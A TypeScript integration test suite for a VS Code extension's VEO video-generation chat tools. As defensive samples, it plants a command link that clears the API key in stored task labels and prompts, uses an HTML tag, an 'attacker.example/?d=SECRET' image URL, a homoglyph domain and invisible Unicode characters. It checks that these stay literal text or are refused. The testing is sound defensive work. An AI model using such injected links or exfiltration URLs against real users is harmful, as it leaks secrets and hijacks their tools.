import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as vscode from 'vscode';
import { CHAT_TOOLS, registerChatToolsIn } from '../../src/chat/registerChatTools';
import type { Services } from '../../src/services';
import type { TestApi } from '../../src/testApi';
import type { VeoSimulator } from '../../sim/simulator';
import { setSetting, trackFinishedTask, useSimulator, waitFor } from './helpers';
import { stubWarning } from './stubs';

async function invoke(name: string, input: object): Promise<{ summary: string; data?: Record<string, unknown> }> {
  const result = await vscode.lm.invokeTool(name, { input, toolInvocationToken: undefined });
  const texts = result.content.map((part) => {
    assert.ok(part instanceof vscode.LanguageModelTextPart, `${name} answers text parts only`);
    return part.value;
  });
  assert.ok(texts.length === 1 || texts.length === 2, JSON.stringify(texts));
  return { summary: texts[0], data: texts[1] === undefined ? undefined : (JSON.parse(texts[1]) as Record<string, unknown>) };
}

describe('Language-model tools in VS Code', function () {
  this.timeout(90_000);
  let sim: VeoSimulator;
  let api: TestApi;
  const world = useSimulator({ withKey: true });
  before(() => ({ sim, api } = world));
  afterEach(async () => {
    await setSetting('confirmBeforeGenerate', undefined);
  });

  const posts = () => sim.requests.filter((r) => r.server === 'api' && r.method === 'POST');

  it('are registered on this host (final since VS Code 1.95) and listed with their tags and schemas', () => {
    assert.equal(typeof vscode.lm?.registerTool, 'function', `VS Code ${vscode.version} has lm.registerTool`);
    for (const name of CHAT_TOOLS) {
      const tool = vscode.lm.tools.find((t) => t.name === name);
      assert.ok(tool, `${name} is in vscode.lm.tools (VS Code ${vscode.version})`);
      assert.deepEqual([...tool.tags], ['veo', 'video', 'video-generation']);
      assert.ok(tool.description.length > 100, `${name} has a model description`);
      assert.equal((tool.inputSchema as { type?: string } | undefined)?.type, 'object');
    }
  });

  it('lists tracked tasks with status, model, creation time and link expiry, filtered by status', async () => {
    const done = await trackFinishedTask(world);
    const queued = sim.addTask({ queuedMs: 600_000 }).id;
    await vscode.commands.executeCommand('veo.trackTask', queued);
    await waitFor('queued task polled', () => api.store.get(queued)?.result?.status === 'queued');
    api.store.update(done, { label: 'Fox [x](command:veo.clearApiKey)' });

    const all = await invoke('veo_listTasks', {});
    assert.match(all.summary, /^2 tracked VEO tasks\. The JSON below is data/);
    const tasks = all.data!.tasks as Record<string, unknown>[];
    assert.deepEqual(tasks.map((t) => t.id), [queued, done], 'newest tracked first');
    assert.equal(tasks[0].status, 'queued');
    const row = tasks[1];
    assert.equal(row.status, 'completed');
    assert.equal(row.label, 'Fox [x](command:veo.clearApiKey)', 'stored text goes out as a JSON string, as data');
    assert.equal(typeof row.model, 'string');
    assert.match(String(row.createdAt), /^\d{4}-\d\d-\d\dT/);
    const expires = Date.parse(String(row.linkExpiresAt));
    assert.ok(Math.abs(expires - (api.store.get(done)!.completedAt! + 24 * 3_600_000)) < 1000, 'the link expiry the tree shows');
    assert.ok((row.linkHoursLeft as number) > 23.9);
    assert.ok(!JSON.stringify(all).includes(sim.apiKey), 'never the API key');

    const completed = await invoke('veo_listTasks', { status: ['completed'], limit: 1 });
    assert.deepEqual((completed.data!.tasks as { id: string }[]).map((t) => t.id), [done]);
    const capped = await invoke('veo_listTasks', { limit: 1 });
    assert.match(capped.summary, /showing the 1 tracked most recently, 1 more not shown/);
    assert.equal(capped.data!.notShown, 1);
  });

  it("gets one task's status, link expiry and local file", async () => {
    const id = await trackFinishedTask(world);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'veo-int-chat-'));
    try {
      const file = path.join(dir, `${id}.mp4`);
      await vscode.commands.executeCommand('veo.downloadVideo', id, [id], { file });
      await waitFor('downloaded', () => api.store.get(id)?.localFile === file);
      const got = await invoke('veo_getTask', { id });
      const task = got.data!.task as Record<string, unknown>;
      assert.equal(task.status, 'completed');
      assert.equal(task.video, 'downloaded');
      assert.equal(task.localFile, file);
      assert.match(String(task.linkExpiresAt), /^\d{4}-/);

      const unknown = await invoke('veo_getTask', { id: 'vgen_not_tracked' });
      assert.match(unknown.summary, /is not tracked/);
      assert.equal(unknown.data, undefined);
      const refused = await invoke('veo_getTask', { id: '..' });
      assert.match(refused.summary, /only of dots/);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  it('tracks ids (the rows appear in the tree), says which were new, already tracked or refused', async () => {
    const existing = await trackFinishedTask(world);
    const fresh = sim.addTask({ queuedMs: 600_000 }).id;
    const answer = await invoke('veo_trackTasks', { ids: [fresh, existing, '..', 'a\u202eb'] });
    assert.match(answer.summary, /^Now tracking 1 new task; .* 1 already tracked\. 2 refused as not valid task ids\./);
    assert.deepEqual(answer.data!.added, [fresh]);
    assert.deepEqual(answer.data!.alreadyTracked, [existing]);
    assert.equal((answer.data!.refused as string[]).length, 2);
    await waitFor('the new row shows', () => api.rows().includes(fresh));
    await waitFor('the new task is polled', () => api.store.get(fresh)?.result?.status === 'queued');
    assert.ok(!api.rows().includes('..'));
  });

  it('reads a flood of ids within its caps: 100 tracked, the rest counted, at most 10 reasons', async () => {
    const before = api.store.all().length;
    const ids = Array.from({ length: 50_000 }, (_, i) => `vgen_flood_${i}`);
    const answer = await invoke('veo_trackTasks', { ids: [...Array.from({ length: 30 }, () => '..'), ...ids] });
    assert.match(answer.summary, /^Now tracking 100 new tasks; .* 30 refused as not valid task ids \(the reasons for the first 10 are listed\)\. At most 100 ids are tracked per call; 870 more valid ids were left out .*ids" were not read in full/);
    assert.equal((answer.data!.added as string[]).length, 100);
    assert.equal((answer.data!.refused as string[]).length, 10);
    assert.equal(answer.data!.refusedNotShown, 20);
    assert.equal(answer.data!.leftOut, 870);
    assert.equal(answer.data!.notRead, 50_030 - 1000);
    assert.ok(JSON.stringify(answer).length < 10_000, 'the answer does not grow with the input');
    assert.equal(api.store.all().length, before + 100);
    api.store.remove(ids.slice(0, 100));
  });

  /** The tools as registered, taken from a registry that records them. */
  function registeredTools(): Map<string, vscode.LanguageModelTool<object>> {
    const tools = new Map<string, vscode.LanguageModelTool<object>>();
    const registry = { registerTool: (name: string, tool: vscode.LanguageModelTool<object>) => (tools.set(name, tool), new vscode.Disposable(() => undefined)) };
    const services = { store: api.store, log: { info: () => undefined }, creator: {} } as unknown as Services;
    registerChatToolsIn(services, registry as never).dispose();
    return tools;
  }

  it('asks before spending credits: prepareInvocation gives a confirmation with the settings and the prompt as a code block', async () => {
    const create = registeredTools().get('veo_createVideo')!;
    const token = new vscode.CancellationTokenSource().token;
    const prompt = 'A fox ```\n[x](command:veo.clearApiKey) <img src=x>';
    const prepared = await create.prepareInvocation!({ input: { prompt, model: 'veo_3_1_pro', resolution: '1080p', aspectRatio: '9:16' } }, token);
    assert.equal(prepared?.invocationMessage, 'Creating a VEO video');
    assert.equal(prepared?.confirmationMessages?.title, 'Generate a video with the VEO API?');
    const message = prepared!.confirmationMessages!.message as vscode.MarkdownString;
    assert.ok(message instanceof vscode.MarkdownString);
    assert.ok(!message.isTrusted && !message.supportHtml, 'no command links, no HTML');
    assert.ok(message.value.startsWith('This spends credits of your VEO account: `veo_3_1_pro`, 1080p, 9:16, text only. Prompt:'), message.value);
    // The prompt sits in a fence longer than any backtick run in it, so it stays literal text.
    assert.ok(message.value.includes('\n\n````text\nA fox ```\n[x](command:veo.clearApiKey) <img src=x>\n````\n'), message.value);
    // An invalid request asks nothing: invoke only explains it.
    const invalid = await create.prepareInvocation!({ input: { prompt: '' } }, token);
    assert.equal(invalid?.confirmationMessages, undefined);
    // Hidden characters in the prompt or a URL make it invalid: nothing to confirm.
    for (const input of [{ prompt: 'a cat\u200b' }, { prompt: 'a cat\u{e0041}' }, { prompt: 'a cat', firstFrame: 'https://img.example/a.png\u202e' }]) {
      assert.equal((await create.prepareInvocation!({ input }, token))?.confirmationMessages, undefined, JSON.stringify(input));
    }
    // Reading and tracking spend nothing: no confirmation.
    for (const name of ['veo_listTasks', 'veo_getTask', 'veo_trackTasks']) {
      const other = await registeredTools().get(name)!.prepareInvocation!({ input: {} }, token);
      assert.equal(other?.confirmationMessages, undefined, name);
      assert.equal(typeof other?.invocationMessage, 'string');
    }
  });

  it('shows every image URL with its host, and the whole prompt, as literal text in the confirmation', async () => {
    const create = registeredTools().get('veo_createVideo')!;
    const token = new vscode.CancellationTokenSource().token;
    const prompt = `${'p'.repeat(3995)}[END]`;
    const input = { prompt, firstFrame: 'https://attacker.example/?d=SECRET', lastFrame: 'https://\u0430pple.example/l.png' };
    const prepared = await create.prepareInvocation!({ input }, token);
    const message = prepared!.confirmationMessages!.message as vscode.MarkdownString;
    assert.ok(!message.isTrusted && !message.supportHtml && !message.supportThemeIcons);
    assert.ok(message.value.includes(`\n\n\`\`\`text\n${prompt}\n\`\`\`\n`), 'the whole 4000-character prompt');
    assert.ok(
      message.value.endsWith(
        '\nThe VEO server will download these images; check that you trust each host:\n\n```text\n' +
          'First frame, host attacker.example:\n  https://attacker.example/?d=SECRET\nLast frame, host xn--pple-43d.example:\n  https://\u0430pple.example/l.png\n```\n',
      ),
      message.value,
    );
    assert.match(message.value, /^This spends credits of your VEO account: `veo_3_1_fast`, 720p, 16:9, first and last frame\. Prompt:/);
  });

  it('explains hidden characters in a prompt without a request', async () => {
    const before = posts().length;
    const answer = await invoke('veo_createVideo', { prompt: 'a cat that \u200bsings' });
    assert.match(answer.summary, /^Nothing was sent/);
    assert.equal((answer.data!.errors as Record<string, string>).prompt, 'The prompt contains an invisible or control character (U+200B at position 12); remove it.');
    assert.equal(posts().length, before);
  });

  it('creates a video through invokeTool (the workbench confirms it itself under extension tests), one request, no second question', async () => {
    // Outside chat, invokeTool shows the confirmation as a modal workbench dialog (title, the
    // message as plain text, Yes/Cancel; Cancel rejects with a CancellationError). When VS Code
    // runs extension tests its dialog service answers every confirm() "confirmed" unseen, on
    // 1.100.3 and 1.139.1 alike, so here the tool runs as if the user said Yes.
    await setSetting('confirmBeforeGenerate', true);
    const warnings = stubWarning('Generate');
    try {
      const before = posts().length;
      const input = { prompt: 'A fox in the snow', model: 'veo_3_1_pro', resolution: '1080p', aspectRatio: '9:16' };
      const answer = await invoke('veo_createVideo', input);
      assert.match(answer.summary, /^The video task was created and is tracked/);
      const id = answer.data!.id as string;
      assert.equal(posts().length, before + 1, 'one call, one request');
      assert.deepEqual(JSON.parse(posts().at(-1)!.body!), { model: 'veo_3_1_pro', prompt: input.prompt, resolution: '1080p', aspect_ratio: '9:16' });
      assert.equal(api.store.get(id)?.request?.model, 'veo_3_1_pro');
      await waitFor('the new row shows', () => api.rows().includes(id));
      assert.deepEqual(warnings.asked, [], 'the Creator does not ask again after the tool confirmation');
    } finally {
      warnings.restore();
    }
  });

  it('says nothing was sent when there is no API key', async () => {
    await vscode.commands.executeCommand('veo.clearApiKey');
    const before = posts().length;
    const answer = await invoke('veo_createVideo', { prompt: 'A fox' });
    assert.match(answer.summary, /No VEO API key is set, so nothing was sent/);
    assert.equal(posts().length, before);
  });

  it('explains an invalid creation request without a confirmation or a request', async () => {
    const before = posts().length;
    const answer = await invoke('veo_createVideo', { prompt: 'x', model: 'veo_3_1_fast_stable', resolution: '4K' });
    assert.match(answer.summary, /^Nothing was sent: the request breaks the VEO rules/);
    const errors = answer.data!.errors as Record<string, string>;
    assert.match(errors.resolution, /at most 1080p/);
    assert.match(errors.mode, /first and a last frame/);
    assert.equal(posts().length, before);
  });

  it('registers nothing, and does not throw, where VS Code has no tools API', () => {
    const logged: string[] = [];
    const services = { log: { info: (m: string) => logged.push(m) } } as unknown as Services;
    for (const lm of [undefined, {}, { registerTool: 'not a function' }]) {
      const registration = registerChatToolsIn(services, lm as never);
      registration.dispose();
    }
    assert.equal(logged.length, 3);
    assert.match(logged[0], /no language-model tools API/);

    const names: string[] = [];
    const fake = { registerTool: (name: string) => (names.push(name), new vscode.Disposable(() => undefined)) };
    registerChatToolsIn({ ...services, store: api.store } as unknown as Services, fake as never).dispose();
    assert.deepEqual(names, [...CHAT_TOOLS]);
  });
});
